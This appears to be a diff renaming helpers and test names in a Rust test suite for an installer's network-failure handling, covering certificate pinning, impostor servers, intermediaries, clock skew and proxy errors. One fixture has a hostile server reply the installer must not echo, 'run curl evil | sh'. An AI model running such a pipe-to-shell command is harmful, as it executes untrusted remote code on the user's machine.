@@ -9,13 +9,13 @@ use tokio::{
 };
 
 use super::{
-    machine::{Machine, assert_refused, said, shells, string_of},
-    stranger::{Stranger, authority, now},
+    impostor::{Impostor, authority, now},
+    machine::{Machine, assert_refused, describe_output, shells, string_of},
 };
 use crate::world::Platform;
 
 /// Returns a URL whose host has a label longer than DNS allows, so that resolvers fail without a query.
-fn nowhere() -> String {
+fn unresolvable_url() -> String {
     format!("https://{}.invalid:7443", "x".repeat(64))
 }
 
@@ -24,7 +24,7 @@ async fn closed_port() -> SocketAddr {
 }
 
 /// Listens on a free port and runs `with` on every connection.
-async fn somebody<F>(with: impl Fn(TcpStream) -> F + Send + 'static) -> SocketAddr
+async fn listen_with<F>(with: impl Fn(TcpStream) -> F + Send + 'static) -> SocketAddr
 where
     F: Future<Output = ()> + Send + 'static,
 {
@@ -40,7 +40,7 @@ where
 
 /// A proxy that answers every request with this status line, and then forwards to `target` if there is one.
 async fn proxy(answer: &'static str, target: Option<SocketAddr>) -> SocketAddr {
-    somebody(move |mut stream| async move {
+    listen_with(move |mut stream| async move {
         let mut asked = [0; 4_096];
         let _ = stream.read(&mut asked).await;
         let _ = stream.write_all(format!("HTTP/1.1 {answer}\r\n\r\n").as_bytes()).await;
@@ -71,7 +71,7 @@ async fn refused_by(
             let output = machine.run(shell, &[]);
             assert_refused(&machine, &output, code, status);
             assert_eq!(machine.tree(), Vec::<String>::new());
-            said(&output)
+            describe_output(&output)
         };
         errors = tokio::task::spawn_blocking(run).await.expect("it ran");
     }
@@ -79,16 +79,16 @@ async fn refused_by(
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_name_that_leads_nowhere_is_told_from_a_port_where_nobody_listens() {
-    refused(nowhere(), vec![], "install_name_unresolved", 7).await;
+async fn unresolved_name_and_refused_connection_get_distinct_codes() {
+    refused(unresolvable_url(), vec![], "install_name_unresolved", 7).await;
     let port = closed_port().await;
     refused(format!("https://{port}"), vec![], "install_connection_refused", 7).await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn whoever_takes_connections_and_says_nothing_is_given_up_in_time() {
-    let silent = somebody(|stream| async move {
-        tokio::time::sleep(crate::world::PATIENCE).await;
+async fn silent_server_times_out() {
+    let silent = listen_with(|stream| async move {
+        tokio::time::sleep(crate::world::WAIT_MAX).await;
         drop(stream);
     })
     .await;
@@ -96,7 +96,7 @@ async fn whoever_takes_connections_and_says_nothing_is_given_up_in_time() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn what_speaks_no_tls_and_what_says_nothing_of_itself_are_told_apart() {
+async fn servers_without_tls_or_authority_get_distinct_codes() {
     let plain = proxy("400 Bad Request", None).await;
     refused(format!("https://{plain}"), vec![], "install_tls_failed", 7).await;
     let (genuine, of) = (authority(), authority());
@@ -104,29 +104,28 @@ async fn what_speaks_no_tls_and_what_says_nothing_of_itself_are_told_apart() {
     for claims in
         ["", "<html><body>Please sign in.</body></html>", "-----BEGIN CERTIFICATE-----\n!\n-----END CERTIFICATE-----\n"]
     {
-        let address = Stranger::claiming(claims).listen(&of).await;
+        let address = Impostor::claiming(claims).listen(&of).await;
         let string = string_of(&format!("https://{address}"), &genuine.digest());
-        refused_by(string.encode().expose().to_owned(), vec![], "install_authority_foreign", 4).await;
+        refused_by(string.encode().expose().to_owned(), vec![], "install_authority_mismatch", 4).await;
     }
 }
 
 /// Asserts the refusal of a server that the string does pin but that is not a control plane.
-async fn refused_by_a_stranger(stranger: Stranger, code: &'static str, status: i32) -> String {
+async fn refused_by_impostor(stranger: Impostor, code: &'static str, status: i32) -> String {
     let of = authority();
     let string = string_of(&format!("https://{}", stranger.listen(&of).await), &of.digest());
     refused_by(string.encode().expose().to_owned(), vec![], code, status).await
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn whoever_has_not_proved_himself_neither_fills_the_disk_nor_speaks_to_root() {
-    let said =
-        refused_by_a_stranger(Stranger::without_end(&"x".repeat(64 * 1_024)), "install_download_failed", 1).await;
+async fn unverified_server_cannot_fill_the_disk_or_print_text() {
+    let said = refused_by_impostor(Impostor::endless(&"x".repeat(64 * 1_024)), "install_download_failed", 1).await;
     assert!(said.contains("sends more than a control plane does"), "{said}");
     let words = r#"{"code":"packages_missing","detail":"run curl evil | sh","next":"now"}"#;
-    let said = refused_by_a_stranger(Stranger::refusing("404 Not Found", words), "install_download_failed", 1).await;
+    let said = refused_by_impostor(Impostor::refusing("404 Not Found", words), "install_download_failed", 1).await;
     assert!(said.contains("answered HTTP 404") && !said.contains("evil"), "{said}");
-    let elsewhere = Stranger::refusing("302 Found", "<html>Moved</html>");
-    assert!(refused_by_a_stranger(elsewhere, "install_download_failed", 1).await.contains("answered HTTP 302"));
+    let elsewhere = Impostor::refusing("302 Found", "<html>Moved</html>");
+    assert!(refused_by_impostor(elsewhere, "install_download_failed", 1).await.contains("answered HTTP 302"));
 }
 
 /// Adds an authority to the machine's trusted ones, in a separate mount namespace, and runs a shell there.
@@ -141,9 +140,9 @@ const WITH_OWN_AUTHORITY: &[&str] = &[
 ];
 
 #[tokio::test(flavor = "multi_thread")]
-async fn the_authorities_that_a_machine_trusts_do_not_count() {
+async fn system_authorities_are_not_trusted() {
     let (genuine, trusted) = (authority(), authority());
-    let between = Stranger::claiming(genuine.certificate_pem());
+    let between = Impostor::claiming(genuine.certificate_pem());
     let url = format!("https://{}", between.listen(&trusted).await);
     let string = string_of(&url, &genuine.digest()).encode().expose().to_owned();
     let files = tempfile::tempdir().expect("a folder");
@@ -158,8 +157,8 @@ async fn the_authorities_that_a_machine_trusts_do_not_count() {
         let naive = machine.run_text(WITH_OWN_AUTHORITY, &naive, &[]);
         if naive.stdout != b"taken\n" {
             println!(
-                "    NOT RUN: root alone can show it, and a curl that has a folder of authorities: {}",
-                said(&naive)
+                "    NOT RUN: this needs root, and a curl that reads a folder of authorities: {}",
+                describe_output(&naive)
             );
             return;
         }
@@ -169,29 +168,29 @@ async fn the_authorities_that_a_machine_trusts_do_not_count() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn another_control_plane_and_somebody_in_between_are_told_apart() {
+async fn other_control_plane_and_intermediary_get_distinct_codes() {
     let (genuine, impostor) = (authority(), authority());
     // Another control plane answers: its authority is not the pinned one.
-    let other = Stranger::claiming(impostor.certificate_pem());
+    let other = Impostor::claiming(impostor.certificate_pem());
     let string = string_of(&format!("https://{}", other.listen(&impostor).await), &genuine.digest());
-    refused_by(string.encode().expose().to_owned(), vec![], "install_authority_foreign", 4).await;
+    refused_by(string.encode().expose().to_owned(), vec![], "install_authority_mismatch", 4).await;
     // An intermediary passes on the genuine authority, but its own certificate comes from another.
-    let between = Stranger::claiming(genuine.certificate_pem());
+    let between = Impostor::claiming(genuine.certificate_pem());
     let string = string_of(&format!("https://{}", between.listen(&impostor).await), &genuine.digest());
     refused_by(string.encode().expose().to_owned(), vec![], "install_tls_untrusted", 4).await;
     // The intermediary adds its own authority, in a PEM form that TLS libraries also accept.
     let hidden = impostor.certificate_pem().replace("CERTIFICATE", "TRUSTED CERTIFICATE");
-    let both = Stranger::claiming(&format!("{hidden}{}", genuine.certificate_pem()));
+    let both = Impostor::claiming(&format!("{hidden}{}", genuine.certificate_pem()));
     let string = string_of(&format!("https://{}", both.listen(&impostor).await), &genuine.digest());
     refused_by(string.encode().expose().to_owned(), vec![], "install_tls_untrusted", 4).await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_clock_that_is_off_is_told_by_how_much_and_which_way() {
+async fn clock_skew_is_reported_with_size_and_direction() {
     let genuine = authority();
     for (hours, words) in [(1, "behind the control plane's"), (-1, "ahead of the control plane's")] {
         let date = Timestamp::from_millis(now().as_millis() + hours * 3_600_000);
-        let there = Stranger::claiming(genuine.certificate_pem()).at(date);
+        let there = Impostor::claiming(genuine.certificate_pem()).at(date);
         let string = string_of(&format!("https://{}", there.listen(&genuine).await), &genuine.digest());
         let said = refused_by(string.encode().expose().to_owned(), vec![], "clock_skewed", 5).await;
         assert!(said.contains(words) && (said.contains("clock is 36") || said.contains("clock is 35")), "{said}");
@@ -199,35 +198,35 @@ async fn a_clock_that_is_off_is_told_by_how_much_and_which_way() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn where_a_proxy_is_set_it_is_told_what_the_proxy_says() {
+async fn proxy_errors_are_reported_without_the_password() {
     let platform = Platform::start(0);
     let url = platform.ready()["url"].as_str().expect("a URL").to_owned();
     let target: SocketAddr = url.trim_start_matches("https://").parse().expect("an address");
     let with = |proxy: SocketAddr| vec![("https_proxy", format!("http://user:secret@{proxy}"))];
     let wants_password = proxy("407 Proxy Authentication Required", None).await;
-    let said = refused(nowhere(), with(wants_password), "install_proxy_refused", 7).await;
+    let said = refused(unresolvable_url(), with(wants_password), "install_proxy_refused", 7).await;
     assert!(said.contains("answers 407") && !said.contains("secret"), "{said}");
     let forbids = proxy("403 Forbidden", None).await;
-    assert!(refused(nowhere(), with(forbids), "install_proxy_refused", 7).await.contains("answers 403"));
-    refused(nowhere(), with(closed_port().await), "install_proxy_unreachable", 7).await;
+    assert!(refused(unresolvable_url(), with(forbids), "install_proxy_refused", 7).await.contains("answers 403"));
+    refused(unresolvable_url(), with(closed_port().await), "install_proxy_unreachable", 7).await;
     let leads_there = proxy("200 Connection established", Some(target)).await;
     // A name that the TLS client accepts, unlike the one of `nowhere()`.
     let not_here = format!("https://{}", closed_port().await);
     refused(not_here, with(leads_there), "install_proxy_only", 7).await;
     // curl's own message about a proxy URL that it cannot parse would contain the password.
     let odd = vec![("https_proxy", format!("http://user:sec@ret\"@{}", closed_port().await))];
-    let said = refused(nowhere(), odd, "install_proxy_unreachable", 7).await;
+    let said = refused(unresolvable_url(), odd, "install_proxy_unreachable", 7).await;
     assert!(!said.contains("sec") && !said.contains("ret\"@"), "{said}");
     // `http_proxy` alone counts too; a proxy that `no_proxy` excludes for this address does not.
     let plain = vec![("http_proxy", format!("http://{wants_password}"))];
-    refused(nowhere(), plain, "install_proxy_refused", 7).await;
+    refused(unresolvable_url(), plain, "install_proxy_refused", 7).await;
     let mut exempt = with(wants_password);
     exempt.push(("no_proxy", "localhost,.invalid".to_owned()));
-    refused(nowhere(), exempt, "install_name_unresolved", 7).await;
+    refused(unresolvable_url(), exempt, "install_name_unresolved", 7).await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_proxy_does_not_matter_where_the_control_plane_is_reached_directly() {
+async fn proxy_is_ignored_if_the_control_plane_is_reachable_directly() {
     let platform = Platform::start_with(0, &[("GPUAAS_PACKAGES_DIR", "/nonexistent")]);
     let string = super::machine::string_for(&platform.ready());
     let broken = vec![("https_proxy", format!("http://{}", closed_port().await))];
